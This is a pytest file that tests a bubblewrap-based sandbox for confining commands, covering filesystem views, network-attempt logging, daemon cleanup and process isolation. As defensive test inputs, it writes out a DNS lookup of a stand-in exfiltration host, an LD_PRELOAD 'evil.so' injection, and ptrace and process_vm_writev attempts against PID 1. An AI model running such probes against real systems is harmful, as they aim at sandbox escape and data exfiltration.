"""A confined command runs, is seen, and leaves nothing behind."""

from __future__ import annotations

import json
import os
import signal
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.confining import (
    SYSTEM_PYTHON,
    ended,
    need_confinement,
    run_in,
    small_machine,
    started_in,
    wait_for,
    why_not,
)
from support.needs import need
from support.patience import PATIENT

from agentvault_tui.confine import bubblewrap, find_layers, watches_attempts
from agentvault_tui.confine.protected import Protection
from agentvault_tui.confine.view import View
from agentvault_tui.errors import NotConfinedError

UID = 1234 if os.geteuid() == 0 else os.geteuid()
SHELL = ("/bin/sh", "-c")


@pytest.fixture
def base() -> Iterator[Path]:
    need_confinement()
    with small_machine(UID) as folder:
        yield folder


def test_it_sees_its_folder_and_little_else(base: Path) -> None:
    """The root has the system's folders; /tmp is fresh; /proc has its own processes."""
    script = "ls / /tmp; ls -d /proc/[0-9]*; id -u; pwd; ls /dev; touch /etc/x /x; true"
    words = run_in(base, UID, [*SHELL, script], confined=True).split()
    assert set(words) >= {"usr", "etc", "/proc/2", str(UID), str(base / "project")}
    assert not {"boot", "home", "media", "opt", "root", "srv", "sys", "work"} & {*words}
    assert len([one for one in words if one.startswith("/proc/")]) < 6
    assert {"null", "zero", "urandom", "tty", "pts", "ptmx", "shm"} <= {*words}
    assert not {"kmsg", "mem", "sda", "vda", "kvm"} & {*words}


def test_what_programs_need_works(base: Path) -> None:
    """Servers, children with pipes and pairs, threads, asyncio and semaphores."""
    script = (
        "import asyncio, multiprocessing, socket, subprocess, threading\n"
        "def child(pipe): pipe.send(42)\n"
        "async def main():\n"
        "    async def answer(r, w): w.write(await r.read(1)); w.close()\n"
        "    server = await asyncio.start_server(answer, '127.0.0.1', 0)\n"
        "    r, w = await asyncio.open_connection(*server.sockets[0].getsockname())\n"
        "    w.write(b'x'); w.write_eof(); assert await r.read() == b'x'; w.close()\n"
        "    done = await asyncio.create_subprocess_exec('true')\n"
        "    assert await done.wait() == 0\n"
        "if __name__ == '__main__':\n"
        "    asyncio.run(main())\n"
        "    ours, theirs = multiprocessing.get_context('fork').Pipe()\n"
        "    one = multiprocessing.get_context('fork').Process(target=child, "
        "args=(theirs,))\n"
        "    one.start(); assert ours.recv() == 42; one.join()\n"
        "    multiprocessing.Lock()\n"
        "    threading.Thread(target=print, args=('thread',)).start()\n"
        "    assert socket.if_nameindex()\n"
        "    open('written', 'w').write('x'); print('fine')\n"
    )
    found = run_in(base, UID, [SYSTEM_PYTHON, "-c", script], confined=True)
    assert found.split() == ["thread", "fine"]
    assert (base / "project/written").read_text() == "x"


def test_git_commits_and_branches(base: Path) -> None:
    """Only its configuration and hooks are read-only."""
    who = "-c user.name=a -c user.email=a@b.test -c branch.autoSetupMerge=false"
    script = (
        f"echo x > new; git {who} add new && git {who} commit -qm one &&"
        " git switch -qc other && git log --oneline && git init -q fresh &&"
        " git -C fresh config a.b c && rm -rf fresh"
    )
    assert "one" in run_in(base, UID, [*SHELL, script], confined=True)


def test_it_reaches_the_endpoint(base: Path) -> None:
    """At the same address as outside, many times."""
    script = (
        "import json, socket\n"
        "port = json.load(open('targets.json'))['proxy']\n"
        "for _ in range(50):\n"
        "    with socket.create_connection(('127.0.0.1', port)) as one:\n"
        "        assert one.recv(16) == b'outside'\n"
        "    with socket.create_connection(('localhost', port)) as one: pass\n"
        "print('reached')\n"
    )
    found = run_in(base, UID, [SYSTEM_PYTHON, "-c", script], confined=True)
    assert found == "reached\n"


def test_what_it_tries_to_reach_is_seen(base: Path) -> None:
    """Names, addresses and ports, by TCP, UDP and IPv6; loopback is its own."""
    script = (
        "import socket\n"
        "def tried(family, kind, address):\n"
        "    one = socket.socket(family, kind)\n"
        "    one.settimeout(5)\n"
        "    try: one.connect(address); one.send(b'x'); one.recv(1)\n"
        "    except OSError: return\n"
        "    raise AssertionError(address)\n"
        "tried(2, 1, ('93.184.216.34', 443))\n"
        "tried(2, 2, ('9.9.9.9', 53))\n"
        "tried(10, 1, ('2001:db8::5', 80))\n"
        "tried(2, 1, ('127.0.0.1', 9))\n"
        "try: socket.getaddrinfo('secret.exfil.example.com', 80)\n"
        "except OSError: pass\n"
    )
    words = [SYSTEM_PYTHON, "-c", script]
    found = json.loads(run_in(base, UID, words, confined=True, attempts=True))
    assert sorted(found) == [
        ["dns", "secret.exfil.example.com", None],
        ["tcp", "2001:db8::5", 80],
        ["tcp", "93.184.216.34", 443],
        ["udp", "9.9.9.9", 53],
    ]


def test_attempts_that_come_too_fast_are_counted(base: Path) -> None:
    """A flood hides no attempt: what was not read is counted with the others."""
    script = (
        "import socket\n"
        "one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for _ in range(20_000):\n"
        "    try: one.sendto(b'x', ('93.184.216.34', 9))\n"
        "    except OSError: pass\n"
    )
    words = [SYSTEM_PYTHON, "-c", script]
    total = int(run_in(base, UID, words, confined=True, attempts="total"))
    assert total >= 20_000


def test_unix_sockets_work_within_the_view_where_they_are_allowed(base: Path) -> None:
    """Those that the command makes itself; the machine's own stay out of reach."""
    for path in (base / "project").glob("*.sock"):
        path.unlink()
    script = (
        "import socket, json\n"
        "one = socket.socket(socket.AF_UNIX); one.bind('/tmp/own'); one.listen()\n"
        "socket.socket(socket.AF_UNIX).connect('/tmp/own')\n"
        "told = json.load(open('targets.json'))\n"
        "for name in (told['outside'] + '/stream.sock', '\\0' + told['abstract']):\n"
        "    try: socket.socket(socket.AF_UNIX).connect(name)\n"
        "    except OSError: continue\n"
        "    raise AssertionError(name)\n"
        "print('fine')\n"
    )
    words = [SYSTEM_PYTHON, "-c", script]
    options = {"confined": True, "local_sockets": True, "sockets": False}
    assert run_in(base, UID, words, **options) == "fine\n"


@pytest.mark.parametrize(
    ("script", "code"), [("exit 7", 7), ("kill -9 $$", 137), ("kill $$", 143)]
)
def test_the_exit_code_is_the_commands(base: Path, script: str, code: int) -> None:
    """As a shell gives it."""
    found = ended(started_in(base, UID, [*SHELL, script], confined=True))
    assert found[0] == code


def heartbeat(path: Path) -> str:
    """Return a script whose daemon writes into a file twenty times a second."""
    loop = f"while :; do date +%s%N > {path}; sleep 0.05; done"
    return f"setsid sh -c '{loop}' >/dev/null 2>&1 </dev/null & "


def alive(path: Path) -> bool:
    """Tell whether a process has the folder of *path* as its working folder."""
    for link in Path("/proc").glob("[0-9]*/cwd"):
        try:
            if link.readlink() == path.parent:
                return True
        except OSError:
            continue
    return False


def dies(path: Path) -> bool:
    ends = time.monotonic() + PATIENT
    while alive(path):
        if time.monotonic() > ends:
            return False
        time.sleep(0.01)
    return True


def test_a_daemon_ends_with_the_command(base: Path) -> None:
    """However it left its parents and its session."""
    beat = base / "project/beat"
    script = f"{heartbeat(beat)} until test -s {beat}; do sleep 0.01; done"
    run_in(base, UID, [*SHELL, script], confined=True)
    assert dies(beat)


def test_nothing_lives_on_where_the_run_is_killed(base: Path) -> None:
    """By SIGKILL, which it cannot handle; its stand-ins go at the next start."""
    beat = base / "project/beat"
    script = f"{heartbeat(beat)} sleep 600"
    process = started_in(base, UID, [*SHELL, script], confined=True)
    wait_for(beat)
    assert alive(beat)
    assert (base / "project/.envrc").exists()
    process.send_signal(signal.SIGKILL)
    process.wait()
    process.communicate()
    assert dies(beat)
    assert (base / "project/.envrc").exists()
    run_in(base, UID, ["/bin/true"], confined=True)
    assert not (base / "project/.envrc").exists()
    assert not (base / "project/.vscode").exists()


def test_it_never_begins_where_the_run_is_killed_before(base: Path) -> None:
    """The end of the pipe that it waits on is no permission."""
    script = "touch begun; sleep 600"
    process = started_in(base, UID, [*SHELL, script], confined=True, killed="before")
    assert process.wait(PATIENT) == -signal.SIGKILL
    process.communicate(timeout=PATIENT)  # all that have its pipes have ended
    assert dies(base / "project/begun")
    assert not (base / "project/begun").exists()


def test_nothing_lives_on_where_the_run_is_killed_at_once(base: Path) -> None:
    """bubblewrap's first process inside may not be ready for that yet."""
    script = "while :; do touch begun; done"
    for _ in range(5):
        process = started_in(base, UID, [*SHELL, script], confined=True, killed="after")
        assert process.wait(PATIENT) == -signal.SIGKILL
        process.communicate(timeout=PATIENT)
        assert dies(base / "project/begun")


def test_bubblewrap_itself_gets_no_variable(
    base: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It starts outside, where LD_PRELOAD would load a library of the project's."""
    started: list[dict[str, object]] = []

    def popen(*_: object, **given: object) -> None:
        started.append(given)
        raise InterruptedError

    monkeypatch.setattr(bubblewrap.subprocess, "Popen", popen)
    view = View(base, base, (), (base,), (), Protection())
    found = bubblewrap.Bubblewrap("/usr/bin/bwrap", "0.12.0", "")
    with pytest.raises(InterruptedError):
        bubblewrap.start(
            *(found, view, ["true"], {"LD_PRELOAD": "evil.so"}),
            files={},
            local_sockets=False,
        )
    assert started[0]["env"] == {}


def test_too_many_repositories_refuse(
    base: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """bubblewrap takes so many words; a command can make as many folders."""
    read = tuple(base / str(number) for number in range(500))
    for one in read:
        one.touch()
    found = bubblewrap.Bubblewrap("/usr/bin/bwrap", "0.12.0")
    view = View(base, base, read, (base,), (), Protection())
    monkeypatch.setattr(bubblewrap, "_MOST_WORDS", 1500)
    with pytest.raises(NotConfinedError, match="more than bubblewrap takes"):
        bubblewrap.start(found, view, ["true"], {}, files={}, local_sockets=False)


def test_the_first_process_cannot_be_changed(base: Path) -> None:
    """It ends all others when `run` is killed, unless its memory says otherwise
    (PR_SET_PDEATHSIG)."""
    script = (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "assert libc.ptrace(16, 1, None, None) == -1\n"
        "assert libc.ptrace(0x4206, 1, None, None) == -1\n"
        "vector = (ctypes.c_size_t * 2)(0, 1)\n"
        "assert libc.process_vm_writev(1, vector, 1, vector, 1, 0) == -1\n"
        "assert ctypes.get_errno() == 1\n"
        "for path in ('/proc/1/mem', '/proc/1/task/1/mem', '/proc/1/fd'):\n"
        "    assert not os.path.exists(path)\n"
        "child = os.fork()\n"
        "if not child: os.kill(os.getpid(), 19); os._exit(0)\n"
        "assert libc.ptrace(0x4206, child, None, None) == 0\n"
        "os.kill(child, 9)\n"
        "print('fine')\n"
    )
    words = [SYSTEM_PYTHON, "-c", script]
    assert run_in(base, UID, words, confined=True) == "fine\n"


def test_two_runs_in_one_folder_keep_each_others_stand_ins(base: Path) -> None:
    """The first one's end does not open the folder to the second."""
    installed = find_layers().bubblewrap
    need(installed is not None and installed.mounts_descriptors, "bubblewrap 0.12.0")
    go, tried = base / "project/go", base / "project/tried"
    wait = f"until test -e {go}; do sleep 0.01; done"
    script = f"echo x > {tried}; {wait}; mkdir .cursor/a || mkdir .codex"
    first = started_in(base, UID, [*SHELL, f"echo x > one; {wait}"], confined=True)
    wait_for(base / "project/one")
    second = started_in(base, UID, [*SHELL, script], confined=True)
    wait_for(tried)
    first.kill()
    first.communicate()
    run_in(base, UID, ["/bin/true"], confined=True)
    go.touch()
    code, _, err = ended(second)
    assert code != 0
    assert "Read-only file system" in err


def test_a_machine_that_can_says_what_is_seen() -> None:
    """`doctor` starts a command that never begins."""
    need_confinement()
    assert why_not() == ""
    found = find_layers().bubblewrap
    assert found is not None
    assert watches_attempts(found)
